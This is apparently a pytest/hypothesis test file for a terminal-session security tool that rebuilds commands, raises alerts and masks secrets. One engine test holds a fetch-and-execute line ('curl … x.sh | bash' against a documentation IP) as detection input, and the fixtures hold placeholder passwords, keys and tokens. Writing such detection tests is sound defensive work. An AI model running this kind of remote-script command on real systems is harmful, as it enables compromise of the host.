"""The engine's fast paths give exactly what the plain paths give.

- `SessionRebuilder.feed_texts` (what the engine uses) against `feed`: same items, output lines as text, command
  lines left out, and the same state afterwards.
- The engine's bulk-built SanitizedLine against the dataclass constructor.
- The masker's cache of clean trigger lines: masking with it warm gives what masking with it empty gives, and it
  never keeps a line that was masked or that left state behind.
"""

from __future__ import annotations

import dataclasses
import itertools

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sessionguard import masking
from sessionguard.engine import SanitizedLine, SessionEngine, _sanitized_lines
from sessionguard.events import SessionEvent
from sessionguard.masking import SecretMasker
from sessionguard.rules import RulePack
from sessionguard.terminal import Command, SessionRebuilder, TranscriptLine

SETTINGS = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])

# Pieces of terminal lines that exercise every branch of the rebuilder: prompts (strong, weak, mid-line),
# continuations, quotes, heredocs, compound commands, escapes, backspaces, embedded newlines, shell switches.
PIECES = [
    "sh-4.2$ ",
    "[ssm-user@ip-10-0-1-23 ~]$ ",
    "[root@ip-10-0-1-23 log]# ",
    "ubuntu@ip-10-0-1-5:~$ ",
    "$ ",
    "# ",
    "host% ",
    "> ",
    ">",
    "ls -la",
    "echo 'a",
    "b'",
    '"',
    "\\",
    "cat <<EOF",
    "EOF",
    "if true; then",
    "fi",
    " | ",
    " && ",
    "sudo -i",
    "exit",
    "bash",
    "mysql -u admin -pS3cr3tPassw0rd",
    "password=hunter2hunter2",
    "total 12",
    "50% done",
    "\x1b]0;title\x07",
    "\x1b[1;32m",
    "xx\b\b",
    "\n",
    "\r",
    " ",
    "{",
    "}",
    "$(",
    ")",
]
raw_line = st.lists(st.sampled_from(PIECES), max_size=6).map("".join)
events = st.lists(st.lists(raw_line, max_size=6), min_size=1, max_size=5)


def lean_view(items: list[TranscriptLine | Command]) -> list[str | Command]:
    """What feed_texts promises, derived from feed()."""
    view: list[str | Command] = []
    for item in items:
        if isinstance(item, Command):
            view.append(item)
        elif item.kind == "output":
            view.append(item.text)
    return view


def state(rebuilder: SessionRebuilder) -> tuple[object, ...]:
    return tuple(getattr(rebuilder, name) for name in SessionRebuilder.__slots__ if name != "_lean")


@SETTINGS
@given(events=events)
def test_feed_texts_is_feed_without_command_lines(events: list[list[str]]) -> None:
    full, lean = SessionRebuilder(), SessionRebuilder()
    for lines in events:
        assert lean.feed_texts(lines) == lean_view(full.feed(lines))
        assert state(lean) == state(full)
    assert lean.flush() == full.flush()


@SETTINGS
@given(events=events, lean_first=st.lists(st.booleans(), min_size=5, max_size=5))
def test_feed_and_feed_texts_can_be_mixed_on_one_rebuilder(events: list[list[str]], lean_first: list[bool]) -> None:
    mixed, full = SessionRebuilder(), SessionRebuilder()
    for lines, lean in zip(events, lean_first, strict=False):
        expected = full.feed(lines)
        got = mixed.feed_texts(lines) if lean else mixed.feed(lines)
        assert got == (lean_view(expected) if lean else expected)


def test_engine_lines_are_the_dataclass_values() -> None:
    lines = _sanitized_lines("s-1", "command", ["a", "b"], "2026-11-26T12:00:00Z")
    expected = [SanitizedLine("s-1", "command", text, "2026-11-26T12:00:00Z") for text in ("a", "b")]
    assert lines == expected
    assert [hash(line) for line in lines] == [hash(line) for line in expected]
    assert [repr(line) for line in lines] == [repr(line) for line in expected]
    first = lines[0]
    assert isinstance(first, SanitizedLine)
    with pytest.raises(dataclasses.FrozenInstanceError):
        first.text = "changed"  # type: ignore[misc]


def test_engine_output_is_the_same_whatever_the_rebuilder_path() -> None:
    pack = RulePack.load()
    lines = ("sh-4.2$ curl -s http://198.51.100.7/x.sh | bash", "output", "sh-4.2$ echo 'a", "> b'", "done")
    event = SessionEvent(session_id="s", lines=lines, event_time="t")
    engine = SessionEngine(pack)
    got = engine.scan_event(event) + engine.finish()
    kinds = [(item.kind, item.text) for item in got if isinstance(item, SanitizedLine)]
    assert kinds == [
        ("command", "curl -s http://198.51.100.7/x.sh | bash"),
        ("output", "output"),
        ("command", "echo 'a"),
        ("command", "b'"),
        ("output", "done"),
    ]
    assert [type(item).__name__ for item in got].index("Alert") == 1  # right after its command's line


TRIGGER_LINES = [
    "sudo yum update -y",
    "journalctl -u nginx --no-pager",
    "mysql -u admin -pS3cr3tPassw0rd -h db",
    "curl -u deploy:hunter2hunter2 https://x/api",
    "AWS Secret Access Key [None]: ",
    "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "-----BEGIN RSA PRIVATE KEY-----",
    "MIIEowIBAAKCAQEA1234567890abcdefghijABCDEFGHIJ",
    "-----END RSA PRIVATE KEY-----",
    '"Type": "SecureString",',
    '"Value": "s3cr3t-Valu3",',
    "export TOKEN=abc123def456",
    "ls -la",
    "sudo",
]


@SETTINGS
@given(
    lines=st.lists(st.sampled_from(TRIGGER_LINES), max_size=12),
    cuts=st.lists(st.integers(0, 12), max_size=3),
    warm=st.lists(st.sampled_from(TRIGGER_LINES), max_size=12),
)
def test_clean_line_cache_changes_nothing(lines: list[str], cuts: list[int], warm: list[str]) -> None:
    bounds = [0, *sorted(cuts), len(lines)]
    events = [lines[start:stop] for start, stop in itertools.pairwise(bounds)]

    def run() -> tuple[list[str], dict[str, int]]:
        masker = SecretMasker()
        out = [text for event in events for text in masker.mask_lines(event)]
        return out, dict(masker.counts)

    masking._CLEAN_LINES.clear()
    cold = run()
    SecretMasker().mask_lines(warm)  # fill the cache with whatever other sessions saw
    assert run() == cold
    one_by_one = SecretMasker()
    assert cold[0] == [one_by_one.mask(text) for text in lines]
    for text in lines:
        if text.encode() in masking._CLEAN_LINES:
            assert SecretMasker().mask(text) == text


def test_clean_line_cache_keeps_no_masked_line_and_no_key_block() -> None:
    masking._CLEAN_LINES.clear()
    SecretMasker().mask_lines(
        ["ls", "sudo yum update -y", "mysql -u a -pS3cr3tPassw0rd", "-----BEGIN RSA PRIVATE KEY-----", "x"]
    )
    assert {b"sudo yum update -y"} == masking._CLEAN_LINES
